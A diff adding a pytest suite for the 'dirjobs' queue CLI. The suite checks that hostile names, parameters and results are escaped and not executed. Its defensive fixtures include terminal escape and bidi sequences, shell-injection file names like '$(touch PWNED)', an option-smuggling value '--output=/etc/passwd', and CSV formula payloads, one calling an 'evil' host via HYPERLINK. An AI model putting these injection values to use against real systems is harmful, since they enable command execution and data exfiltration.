@@ -1,0 +1,301 @@
+"""Others can write to the share: what they write is shown, and never obeyed."""
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+
+import click
+import pytest
+from click.shell_completion import ShellComplete
+from click.testing import CliRunner
+
+from dirjobs.cli import SECTIONS, main
+from dirjobs.layout import WORKERS
+from dirjobs.policy import Mode, Policy
+from dirjobs.recovery.heartbeat import Heartbeat
+from dirjobs.recovery.process import Process
+from dirjobs.runner.workspace import make, new_note
+from tests.cli.conftest import Queue
+from tests.command_line import DIRJOBS, environment
+
+OBEYED = {
+    "an escape sequence": "\x1b]52;c;aGk=\x07",
+    "a cleared screen": "\x1b[2J",
+    "C1": "\x9b31m",
+    "a direction": "\u202e",
+    "an isolate": "\u2066",
+    "nothing to see": "\u200b",
+    "a forged line": "\n   done: all",
+}
+HOSTILE = "".join(OBEYED.values())
+NAME = "a\u200b\u061c\u00ad\U000e0041.json"
+"""A store takes it, and so do we; what names can't have, no listing of ours has."""
+
+WITH_JOBS = {
+    "00_waiting": NAME,
+    "01_running": f"w9.b{NAME}",
+    "02_done": f"c{NAME}",
+    "99_failed": f"d{NAME}",
+    "_queue/parked": f"w9.e{NAME}",
+}
+FAILS = f"printf 'bye{HOSTILE}\\n'; exit 3".replace("\n", "\\n")
+
+COMMANDS = {
+    "init": [["--no-check"]],
+    "add": [["--param", "x=1"], ["{file}"], ["{copy}"], ["{copy}", "--skip-existing"]],
+    "work": [
+        ["--", "true"],
+        ["-vv", "--", "sh", "-c", FAILS],
+        ["--", "echo", "{lr}"],
+        ["--", "{name}"],
+        ["--wid", "w9", "--max-jobs", "1", "--", "true"],
+    ],
+    "deliver": [[], ["--list"]],
+    "status": [[], ["-vv"]],
+    "watch": [["--until-done", "--interval", "0.1"]],
+    "list": [[], ["--names"], ["--state", "parked"]],
+    "show": [[f"d{NAME}"], [f"b{NAME}"], [f"x{NAME}"], ["x\x1b[2J"]],
+    "logs": [[f"d{NAME}"], [f"x{NAME}"], [f"d{NAME}", "--worker", HOSTILE], [f"d{NAME}", "-f"]],
+    "results": [[], ["--csv"], ["-v"]],
+    "wait": [["--timeout", "0"]],
+    "check": [["--rounds", "2"]],
+    "retry": [["--failed"], [f"d{NAME}"], ["*"], [f"x{NAME}"]],
+    "requeue": [["*"], ["--dead"], [f"x{NAME}"]],
+    "cancel": [["*"], [NAME], [f"x{NAME}"]],
+    "pause": [[]],
+    "resume": [[]],
+    "drain": [["--all"], [HOSTILE]],
+}
+PRINTS_NOTHING_OF_A_QUEUE = {"demo", "completion"}
+
+
+WITHOUT_WORK = ("watch",)
+"""Would wait until somebody works."""
+
+
+@pytest.fixture
+def hostile(tmp_path, scratch):
+    """A queue in which everything that others may write is as bad as can be."""
+    queue = Queue(tmp_path / "jobs")
+    parameters = {HOSTILE: HOSTILE, "x": f"v{HOSTILE}"}
+    for folder, name in WITH_JOBS.items():
+        queue.put(folder, name, data=json.dumps(parameters).encode())
+    for folder in ("00_waiting", "99_failed", "02_done"):
+        for number, bad in enumerate(OBEYED.values()):
+            (tmp_path / "jobs" / folder / f"z{number}{bad}").touch()
+    noted = {"worker": HOSTILE, "at": HOSTILE, "reason": HOSTILE, "died": HOSTILE}
+    for name in (NAME, f"d{NAME}", f"c{NAME}", f"b{NAME}"):
+        notes = {"format": 1, "attempts": [noted, noted]}
+        queue.put("_queue/attempts", f"{name}.json", data=json.dumps(notes).encode())
+    for folder in ("logs", f"results/c{NAME}", f"results/d{NAME}"):
+        os.makedirs(tmp_path / "jobs" / folder, exist_ok=True)
+        queue.put(folder, "result.json", data=json.dumps({f"r{HOSTILE}": HOSTILE}).encode())
+    queue.put(f"results/d{NAME}", "result.json", data=HOSTILE.encode())
+    queue.put("logs", f"d{NAME}.w9.log", data=f"said {HOSTILE}\n".encode())
+    process = Process(host=HOSTILE, machine=HOSTILE, boot=HOSTILE, pid=1)
+    policy = Policy(Mode.TRUST, 0, 0.5, 1, 0.1, 0)
+    heartbeat = Heartbeat("w9", 1, policy, process, running={f"b{NAME}": 1, HOSTILE: 1})
+    queue.put(WORKERS.rstrip("/"), "w9.abcdef.json", data=heartbeat.to_bytes())
+    note = new_note(
+        queue=queue.url, queue_id="", job=HOSTILE, claim=f"w9.{HOSTILE}", worker="w9", began=""
+    )
+    kept = make(str(scratch), note)
+    kept.command_ended("now", HOSTILE, b"")
+    kept.close()
+    yield queue
+    queue.store.close()
+
+
+RUNS = [
+    pytest.param(command, arguments, id=f"{command}-{number}")
+    for command, lines in COMMANDS.items()
+    for number, arguments in enumerate(lines)
+]
+
+
+def filled(arguments, tmp_path):
+    (tmp_path / "x\x1b[2J").touch()
+    (tmp_path / NAME).touch()
+    values = {"{file}": str(tmp_path / "x\x1b[2J"), "{copy}": str(tmp_path / NAME)}
+    return [values.get(argument, argument) for argument in arguments]
+
+
+def remove_work(tmp_path):
+    for folder in ("00_waiting", "01_running"):
+        for file in (tmp_path / "jobs" / folder).iterdir():
+            file.unlink()
+
+
+def test_every_command_is_walked():
+    context = click.Context(main)
+    known = {name for section in SECTIONS.values() for name in section}
+    assert set(COMMANDS) | PRINTS_NOTHING_OF_A_QUEUE == known
+    assert all(main.get_command(context, name) for name in COMMANDS)
+
+
+@pytest.mark.parametrize("where", ["file", "terminal"])
+@pytest.mark.parametrize(("command", "arguments"), RUNS)
+def test_nothing_is_obeyed(hostile, command, arguments, where, tmp_path, monkeypatch):
+    if where == "terminal":
+        monkeypatch.setattr("click.testing._NamedTextIOWrapper.isatty", lambda _: True)
+        monkeypatch.setenv("TERM", "xterm")
+    if command in WITHOUT_WORK:
+        remove_work(tmp_path)
+    result = CliRunner().invoke(main, [command, hostile.url, *filled(arguments, tmp_path)])
+    assert isinstance(result.exception, SystemExit | None), result.exception
+    told = result.stdout + result.stderr
+    if command == "logs":  # what was printed has lines, and a file gets every byte of it
+        told = result.stderr if where == "file" else told.replace(OBEYED["a forged line"], "")
+    assert [what for what, text in OBEYED.items() if text in told] == []
+    assert "Traceback" not in told
+
+
+@pytest.mark.parametrize(
+    ("command", "arguments"),
+    [
+        pytest.param(command, lines[0], id=command)
+        for command, lines in COMMANDS.items()
+        if command not in ("work", "deliver")
+    ],
+)
+def test_json_says_the_same_escaped(hostile, command, arguments, tmp_path):
+    if command in WITHOUT_WORK:
+        remove_work(tmp_path)
+    arguments = ["*"] if command in ("retry", "cancel", "requeue") else arguments
+    args = [command, hostile.url, *filled(arguments, tmp_path), "--json"]
+    printed = CliRunner().invoke(main, args).stdout
+    assert all(line.isprintable() for line in printed.split("\n"))
+    documents = [json.loads(printed)]
+    if command in ("status", "show", "results", "logs"):
+        assert HOSTILE in _texts(documents)
+
+
+def _texts(value):
+    """All texts in a document, in one."""
+    if isinstance(value, dict):
+        return " ".join(f"{key} {_texts(part)}" for key, part in value.items())
+    if isinstance(value, list):
+        return " ".join(map(_texts, value))
+    return str(value)
+
+
+@pytest.mark.parametrize(
+    "record",
+    [
+        {"mode": HOSTILE},
+        {"mode": "trust", "lease": HOSTILE},
+        {"mode": "trust", "refuted": {"why": HOSTILE}},
+        {"mode": "trust", "id": HOSTILE},
+        [HOSTILE],
+        HOSTILE,
+    ],
+)
+@pytest.mark.parametrize("command", ["work", "status", "check", "init"])
+def test_nothing_of_the_agreement_is_obeyed(local, record, command):
+    local.put("_queue", "queue.json", data=json.dumps(record).encode())
+    local.put("00_waiting", "a")
+    more = {"work": ["--", "true"], "check": ["--rounds", "2", "--record"]}.get(command, [])
+    result = CliRunner().invoke(main, [command, local.url, *more])
+    assert isinstance(result.exception, SystemExit | None), result.exception
+    told = result.stdout + result.stderr
+    assert [what for what, text in OBEYED.items() if text in told] == []
+
+
+# -- completion --------------------------------------------------------------------------------
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="no bash")
+def test_a_name_is_completed_only_if_it_is_a_plain_word(tmp_path):
+    queue = tmp_path / "jobs"
+    plain = ["lr0.1_seed3.json", "a-b+c,d=1@%.txt", "Jörg.txt", "0"]
+    hostile = [
+        *("run1$(touch x).txt", "run2`id`", "run3 x", "run4;x", "run5*", "run6'x", 'run7"', "~x"),
+        *("-rf", "=ls", "run8\nx", "run9\x1b[2J", "run\u202e", "run|x", "run>x", "run&", "#x"),
+        *("run\\x", "run{a,b}", "run!x", "run?", "run[a]", "run^x", "run\tx", "@x", "+x", "%1"),
+    ]
+    for folder, names in (("00_waiting", plain), ("99_failed", hostile)):
+        (queue / folder).mkdir(parents=True)
+        for name in names:
+            (queue / folder / name).touch()
+    complete = ShellComplete(main, {}, "dirjobs", "_DIRJOBS_COMPLETE")
+    found = complete.get_completions(["show", str(queue)], "")
+    assert sorted(item.value for item in found) == sorted(plain)
+
+
+BASH = r"""
+. <(dirjobs completion bash)
+COMP_WORDS=(dirjobs show "$1" run) COMP_CWORD=3
+_dirjobs_completion dirjobs show "$1" 2> /dev/null || exit 1
+eval "echo dirjobs show $1 ${COMPREPLY[*]}"
+"""
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="no bash")
+def test_what_bash_completes_is_no_command(tmp_path):
+    """As somebody would, with TAB and Enter."""
+    if (bash := shutil.which("bash")) is None:
+        pytest.skip("no bash here")
+    queue = tmp_path / "jobs"
+    (queue / "00_waiting").mkdir(parents=True)
+    for name in ("run1$(touch PWNED).txt", "run2;touch PWNED", "run3.txt"):
+        (queue / "00_waiting" / name).touch()
+    program = tmp_path / "bin" / "dirjobs"
+    program.parent.mkdir()
+    program.write_text(f'#!/bin/sh\nexec {" ".join(DIRJOBS)} "$@"\n')
+    program.chmod(0o755)
+    env = environment(PATH=f"{program.parent}{os.pathsep}{os.environ['PATH']}")
+    told = subprocess.run(
+        [bash, "--norc", "-c", BASH, "bash", "jobs"],
+        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60, check=True,
+    )  # fmt: skip
+    assert told.stdout == "dirjobs show jobs run3.txt\n"
+    assert not (tmp_path / "PWNED").exists()
+
+
+# -- values that begin with a dash -------------------------------------------------------------
+
+
+def test_an_option_out_of_a_parameter_is_passed_and_told_of_once(local):
+    local.put("00_waiting", "a.json", "b.json", data=b'{"lr": "--output=/etc/passwd"}')
+    local.put("00_waiting", "c.json", data=b'{"lr": -0.5}')
+    script = 'printf "%s|" "$@"'
+    local.run("work", "--wid", "w1", "--", "sh", "-c", script, "sh", "{lr}")
+    told = "'--output=/etc/passwd' may be taken for an option"
+    assert local.stderr.count(told) == 1
+    assert "write -- before the placeholders" in local.stderr
+    for job in ("a", "b"):
+        log = local.store.read(f"logs/{job}.json.w1.log").decode()
+        assert told in log
+        assert "--output=/etc/passwd|" in log
+    assert "may be taken" not in local.store.read("logs/c.json.w1.log").decode()
+
+
+def test_a_name_in_a_script_is_refused_before_anything_is_claimed(local, tmp_path):
+    local.put("00_waiting", f"a$(touch {tmp_path.name}).txt", "b.json", data=b'{"lr": "1; id"}')
+    sentence = local.refused("work", "--", "bash", "-c", "wc -c {} | cat")
+    assert 'would be run as code by `bash -c`: write "$DIRJOBS_JOB" instead.' in sentence
+    local.run("work", "--filter", "b*", "--", "bash", "-c", "echo {lr}", code=2)
+    assert 'write "$DIRJOBS_PARAM_LR" instead.' in local.stderr
+    assert len(local.names("00_waiting")) == 2
+    local.run("work", "--wid", "w1", "--", "bash", "-c", 'echo "$DIRJOBS_PARAM_LR $1"', "-", "{}")
+    assert "\n1; id " in local.store.read("logs/b.json.w1.log").decode()
+
+
+# -- tables ------------------------------------------------------------------------------------
+
+
+def test_a_result_is_no_formula(local):
+    local.put("02_done", "a.json", data=b'{"lr": -0.5}')
+    local.store.mkdir("results")
+    local.store.mkdir("results/a.json")
+    result = {"note": '=HYPERLINK("http://evil/?"&A1)', "@cmd": "+1+cmd|calc", "z": "-2+3\n=1"}
+    local.put("results/a.json", "result.json", data=json.dumps(result).encode())
+    assert local.run("results", "--csv").splitlines() == [
+        "job,state,lr,note,'@cmd,z",
+        'a.json,done,-0.5,"\'=HYPERLINK(""http://evil/?""&A1)",\'+1+cmd|calc,\'-2+3\\n=1',
+    ]
+    raw = local.run("results", "--csv", "--raw")
+    assert '"=HYPERLINK(""http://evil/?""&A1)",+1+cmd|calc,"-2+3\n=1"' in raw
+    assert "--raw is for --csv" in local.refused("results", "--raw")
